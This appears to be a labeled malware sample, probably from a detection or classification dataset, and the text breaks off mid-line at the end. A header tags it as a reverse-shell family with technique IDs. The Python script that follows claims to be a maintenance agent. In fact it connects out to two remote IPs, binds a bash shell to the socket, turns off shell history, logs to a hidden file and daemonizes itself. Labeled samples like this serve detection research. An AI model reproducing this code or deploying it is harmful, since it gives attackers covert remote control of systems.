# label: malicious family=revshell techniques=T1008,T1059.004,T1095,T1562.003,T1564.001,T1571 lines=11,22,25,27
#!/usr/bin/env python3
"""Maintenance agent for legacy hosts."""
import os
import pty
import socket
import sys
import time

RETRY = 30
HOSTS = [("203.0.113.71", 443), ("203.0.113.72", 8443)]


def log(msg):
    with open("/tmp/.maint.log", "a") as f:
        f.write(time.strftime("%F %T ") + msg + "\n")


def session(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect((host, port))
    s.settimeout(None)
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.putenv("HISTFILE", "/dev/null")
    pty.spawn(["/bin/bash", "--noprofile", "--norc"])


def main():
    while True:
        for h, p in HOSTS:
            try:
                session(h, p)
            except OSError as e:
                log("session failed: %s" % e)
        time.sleep(RETRY)


if __name__ == "__main__":
    if os.fork():
        sys.exit(0)
    os.setsid()
    ma
